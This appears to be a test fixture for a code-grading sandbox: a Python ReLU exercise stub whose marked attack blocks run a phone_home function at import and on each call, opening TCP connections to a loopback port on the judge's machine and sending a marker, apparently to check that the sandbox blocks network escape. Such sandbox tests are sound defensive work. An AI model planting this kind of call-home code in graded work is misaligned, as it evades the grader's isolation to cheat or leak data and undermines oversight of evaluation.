# attack: TCP to a port the judge's machine listens on (loopback), to report home or fetch answers
# exercise: exercise2
# expect: not_attempted
# host: tcp
import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("exercise2: implement ReLU.forward")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("exercise2: implement ReLU.backward")



def relu(x):
    # --- attack ---
    phone_home()
    # --- end attack ---
    return ReLU.apply(x)


# --- attack ---
import socket


def phone_home():
    for family, address in ((socket.AF_INET, ("127.0.0.1", {{PORT}})), (socket.AF_INET6, ("::1", {{PORT}}))):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as sock:
                sock.settimeout(1)
                sock.connect(address)
                sock.sendall(b"{{MARK}}")
                print("CONNECTED", flush=True)
        except OSError as exc:
            print("blocked:", exc, flush=True)


phone_home()
# --- end attack ---
